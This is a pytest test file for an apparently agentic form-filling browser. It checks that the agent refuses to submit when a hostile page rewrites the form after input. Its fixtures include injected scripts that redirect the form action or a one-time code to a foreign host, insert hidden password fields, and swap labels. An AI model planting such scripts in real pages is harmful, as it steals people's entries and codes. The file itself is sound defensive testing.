"""A page that changes what was filled in, between the filling and the person's turn."""

import pytest
from support.headless_run import HeadlessRun
from support.hostile_site import ASKS, FORM, HostileSite
from support.web_server import PRESSES

_NAMED = FORM.replace(
    '<p><label>Email address <input name="email"',
    '<p><label><span>Full name</span> <input name="name"></label></p>'
    '<p><label><span>Email address</span> <input name="email"',
).replace('type="email" ', "")
_ONCE_FILLED = """<script>let done = false; addEventListener('input', e => {
  if (e.target.matches('textarea') && !done) { done = true; setTimeout(() => { %s }, 10); }
}, true);</script>"""

ELSEWHERE = {
    "the action": FORM + _ONCE_FILLED % "document.forms[0].action = '{foreign}/send'",
    "a button": FORM + _ONCE_FILLED % "document.body.insertAdjacentHTML('beforeend', "
    "`<button form=f formaction='{foreign}/send'>Send</button>`); document.forms[0].id = 'f'",
    "a password": FORM + _ONCE_FILLED % "document.forms[0].insertAdjacentHTML('beforeend', "
    "'<input type=password hidden>')",
}
MOVED = {
    "labels swapped": _NAMED
    + _ONCE_FILLED
    % "const [a, b] = document.querySelectorAll('span'); const t = a.textContent; "
    "a.textContent = b.textContent; b.textContent = t; "
    "const [x, y] = document.querySelectorAll('input'); x.name = 'q'; y.name = 'r'",
    "into another form": FORM
    + "<form action='/other' id=g></form>"
    + _ONCE_FILLED % "g.append(document.querySelector('[name=email]').closest('p'))",
}


@pytest.mark.parametrize("what", ELSEWHERE)
def test_a_form_that_now_sends_elsewhere_is_not_handed_over(
    headless: HeadlessRun, what: str
) -> None:
    with HostileSite({"/": ELSEWHERE[what]}) as site:
        result = headless.run(site.own + "/")
    assert not [r for r in site.requests if "/send" in r]
    assert "It would now send what is filled in" in headless.person.heard
    assert "Do not send it" in headless.person.heard
    (asked,) = headless.person.asked
    assert "by hand, with the letter to copy" in asked
    assert headless.person.acts == []
    assert (result.state, result.exit, headless.record()["state"]) == ("changed", 4, "changed")


@pytest.mark.parametrize("what", MOVED)
def test_a_field_that_moved_is_the_persons(headless: HeadlessRun, what: str) -> None:
    headless.person.choices = ["self"]
    with HostileSite({"/": MOVED[what]}) as site:
        headless.run(site.own + "/", until=headless.acts(1))
    assert not [r for r in site.requests if "/send" in r or "/other" in r]
    moved, *_ = headless.person.heard.split("you check and")
    assert "the page has moved fields since they were filled in" in moved
    assert "e-mail: optout is not sure which field it is" in moved
    assert "how do you want to go on" in headless.person.asked[0]
    assert headless.fields()["email"] == "ambiguous"


_ONCE_TYPED = """<script>addEventListener('input', () => {
  const away = () => { document.forms[0].action = '{foreign}/code'; };
  %s }, true);</script>"""
WHEN = {
    "at once": ("away();", ("code_asked", "a code is asked for:")),
    "a moment later": ("setTimeout(away);", ("code_entered", "the code was typed")),
}
"""What is done, and what is known then: at once, the code is taken out of its box."""


@pytest.mark.parametrize("when", WHEN)
def test_a_code_form_that_sends_elsewhere_is_not_confirmed(
    headless: HeadlessRun, when: str
) -> None:
    act, known = WHEN[when]
    headless.person.codes = ["482915"]
    with HostileSite({"/": FORM + PRESSES, "/send": ASKS + _ONCE_TYPED % act}) as site:
        said = headless.heard("It would now send what is filled in")
        headless.run(site.own + "/", site.press, until=said)
        assert "/code" not in site.foreign_requests
    last = headless.record()["rungs"][-1]
    assert (last["state"], last["proof"]) == known
